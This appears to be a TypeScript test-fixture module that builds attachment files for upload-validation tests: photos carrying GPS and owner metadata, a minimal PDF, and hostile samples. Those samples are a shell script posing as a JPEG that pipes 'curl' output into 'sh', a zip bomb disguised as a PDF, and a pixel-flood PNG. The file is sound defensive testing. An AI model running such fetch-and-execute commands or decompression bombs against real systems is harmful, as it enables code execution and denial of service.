/**
 * Real files for the attachment tests, made here rather than checked in: a JPEG encoded by jpeg-js
 * with an EXIF block carrying GPS coordinates, an XMP packet, a comment and bytes appended after
 * the image (as phones append motion clips); a PNG written by pngjs with eXIf, XMP and text chunks;
 * a small PDF with a correct cross-reference table; and the hostile ones — a script, a zip "bomb",
 * a PNG with a broken checksum.
 */
import { deflateRawSync } from 'node:zlib';
import jpeg from 'jpeg-js';
import { PNG } from 'pngjs';
import { crc32 } from '../../functions/domain/complaints/attachment-content.ts';

const u16 = (value: number) => [(value >> 8) & 0xff, value & 0xff];
const u32 = (value: number) => [
  (value >>> 24) & 0xff,
  (value >> 16) & 0xff,
  (value >> 8) & 0xff,
  value & 0xff,
];
const text = (value: string) => [...Buffer.from(value, 'latin1')];

interface Entry {
  tag: number;
  /** TIFF field type: 1 BYTE, 2 ASCII, 3 SHORT, 4 LONG, 5 RATIONAL. */
  type: number;
  count: number;
  data: number[];
}

/** One image file directory starting at `start` (offsets are from the TIFF header), with its values. */
function directory(entries: Entry[], start: number): number[] {
  const out = [...u16(entries.length)];
  const dataStart = start + 2 + entries.length * 12 + 4;
  const values: number[] = [];
  for (const entry of entries) {
    out.push(...u16(entry.tag), ...u16(entry.type), ...u32(entry.count));
    if (entry.data.length <= 4) out.push(...entry.data, ...new Array(4 - entry.data.length).fill(0));
    else {
      out.push(...u32(dataStart + values.length));
      values.push(...entry.data);
      if (values.length % 2 === 1) values.push(0);
    }
  }
  out.push(...u32(0));
  return [...out, ...values];
}

const rationals = (...values: [number, number][]) => values.flatMap(([n, d]) => [...u32(n), ...u32(d)]);

export const gpsFix = { latitude: 31.2304, longitude: 121.4737, make: 'YichuangCam', owner: '张三' };

/** A big-endian TIFF block: camera make, owner, orientation, and a GPS directory (Shanghai). */
export function exifWithGps(orientation = 6): Uint8Array {
  const ifd0 = (gpsOffset: number) =>
    directory(
      [
        { tag: 0x010f, type: 2, count: gpsFix.make.length + 1, data: [...text(gpsFix.make), 0] },
        { tag: 0x0112, type: 3, count: 1, data: u16(orientation) },
        {
          tag: 0x013b,
          type: 2,
          count: Buffer.byteLength(gpsFix.owner) + 1,
          data: [...Buffer.from(gpsFix.owner), 0],
        },
        { tag: 0x8825, type: 4, count: 1, data: u32(gpsOffset) },
      ],
      8,
    );
  const gpsOffset = 8 + ifd0(0).length;
  const gps = directory(
    [
      { tag: 0x0000, type: 1, count: 4, data: [2, 3, 0, 0] },
      { tag: 0x0001, type: 2, count: 2, data: [...text('N'), 0] },
      { tag: 0x0002, type: 5, count: 3, data: rationals([31, 1], [13, 1], [4944, 100]) },
      { tag: 0x0003, type: 2, count: 2, data: [...text('E'), 0] },
      { tag: 0x0004, type: 5, count: 3, data: rationals([121, 1], [28, 1], [2532, 100]) },
    ],
    gpsOffset,
  );
  return Uint8Array.from([...text('MM'), 0, 42, ...u32(8), ...ifd0(gpsOffset), ...gps]);
}

const xmpPacket = `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="31,13.824N" exif:GPSLongitude="121,28.422E"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`;

/** Width × height RGBA pixels: a gradient, so a decoder that drops data would show it. */
export function pixels(width: number, height: number): Buffer {
  const data = Buffer.alloc(width * height * 4);
  for (let y = 0; y < height; y += 1) {
    for (let x = 0; x < width; x += 1) {
      const at = (y * width + x) * 4;
      data[at] = (x * 255) / Math.max(width - 1, 1);
      data[at + 1] = (y * 255) / Math.max(height - 1, 1);
      data[at + 2] = 128;
      data[at + 3] = 255;
    }
  }
  return data;
}

/** A plain JPEG from jpeg-js (SOI, JFIF APP0, tables, one scan, EOI). */
export function plainJpeg(width = 32, height = 24): Uint8Array {
  return new Uint8Array(jpeg.encode({ data: pixels(width, height), width, height }, 90).data);
}

/** An IPTC-IM record (City, 2:90) in a Photoshop image resource block, as APP13 carries it. */
function photoshopIptc(city: string): number[] {
  const record = [0x1c, 0x02, 90, ...u16(city.length), ...text(city)];
  const padded = record.length % 2 === 1 ? [...record, 0] : record;
  return [...text('8BIM'), 0x04, 0x04, 0, 0, ...u32(record.length), ...padded];
}

function segment(marker: number, payload: number[]): number[] {
  return [0xff, marker, ...u16(payload.length + 2), ...payload];
}

/**
 * A phone-like photo: after JFIF an EXIF APP1 with GPS, an XMP APP1 with GPS, an IPTC APP13 and a
 * comment, and a "motion clip" appended after the end of the image.
 */
export function jpegWithGps(width = 32, height = 24, orientation = 6): Uint8Array {
  const plain = plainJpeg(width, height);
  // jpeg-js writes SOI then APP0 JFIF (length at bytes 4–5).
  const app0End = 4 + (((plain[4] as number) << 8) | (plain[5] as number));
  const metadata = [
    ...segment(0xe1, [...text('Exif'), 0, 0, ...exifWithGps(orientation)]),
    ...segment(0xe1, [...text('http://ns.adobe.com/xap/1.0/'), 0, ...text(xmpPacket)]),
    ...segment(0xed, [...text('Photoshop 3.0'), 0, ...photoshopIptc('Shanghai')]),
    ...segment(0xfe, [...Buffer.from(`拍摄者 ${gpsFix.owner}`)]),
  ];
  return Uint8Array.from([
    ...plain.subarray(0, app0End),
    ...metadata,
    ...plain.subarray(app0End),
    ...text('MOTION-CLIP-ftypmp42'),
  ]);
}

function pngChunk(type: string, data: number[]): number[] {
  const body = [...text(type), ...data];
  return [...u32(data.length), ...body, ...u32(crc32(Uint8Array.from(body)))];
}

/** A plain PNG from pngjs. */
export function plainPng(width = 8, height = 6): Uint8Array {
  const png = new PNG({ width, height });
  pixels(width, height).copy(png.data);
  return new Uint8Array(PNG.sync.write(png));
}

/** A PNG with an eXIf chunk (GPS), an iTXt XMP packet (GPS), a tEXt Author and a tIME chunk, before IDAT. */
export function pngWithGps(width = 8, height = 6, orientation = 1): Uint8Array {
  const plain = plainPng(width, height);
  const ihdrEnd = 8 + 12 + 13;
  const metadata = [
    ...pngChunk('eXIf', [...exifWithGps(orientation)]),
    ...pngChunk('iTXt', [...text('XML:com.adobe.xmp'), 0, 0, 0, 0, 0, ...text(xmpPacket)]),
    ...pngChunk('tEXt', [...text('Author'), 0, ...text('Zhang San 13812345678')]),
    ...pngChunk('tIME', [...u16(2026), 11, 27, 9, 30, 0]),
  ];
  return Uint8Array.from([...plain.subarray(0, ihdrEnd), ...metadata, ...plain.subarray(ihdrEnd)]);
}

/** A PNG whose IHDR claims width × height pixels with one tiny IDAT: a pixel flood. */
export function pixelFloodPng(width: number, height: number): Uint8Array {
  const signature = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
  return Uint8Array.from([
    ...signature,
    ...pngChunk('IHDR', [...u32(width), ...u32(height), 8, 0, 0, 0, 0]),
    ...pngChunk('IDAT', [...deflateRawSync(Buffer.alloc(64))]),
    ...pngChunk('IEND', []),
  ]);
}

/** The plain PNG with one byte of its IDAT data flipped: the chunk's CRC no longer matches. */
export function pngWithBadChecksum(): Uint8Array {
  const bytes = plainPng();
  const idat = Buffer.from(bytes).indexOf('IDAT');
  bytes[idat + 6] = (bytes[idat + 6] as number) ^ 0xff;
  return bytes;
}

/** A one-page PDF with a correct cross-reference table. */
export function smallPdf(extra = ''): Uint8Array {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
  ];
  let body = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(body.length);
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, '0')} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n${extra}`;
  return new Uint8Array(Buffer.from(body, 'latin1'));
}

/** A shell script, as someone might name it `photo.jpg`. */
export const scriptAsJpeg = new Uint8Array(Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n'));

/**
 * A zip "bomb" as someone might name it `report.pdf`: a local file header of a deflated entry that
 * claims to expand to 4 GiB, then highly compressible deflate data. Never inflated by the check.
 */
export function zipBomb(): Uint8Array {
  const compressed = deflateRawSync(Buffer.alloc(4 * 1024 * 1024));
  const name = text('bomb.txt');
  const header = [
    ...text('PK'),
    3,
    4,
    20,
    0,
    0,
    0,
    8,
    0,
    0,
    0,
    0,
    0,
    0,
    0,
    0,
    0,
    ...u32(compressed.length).reverse(),
    0xff,
    0xff,
    0xff,
    0xff,
    ...u16(name.length).reverse(),
    0,
    0,
    ...name,
  ];
  return Uint8Array.from([...header, ...compressed]);
}
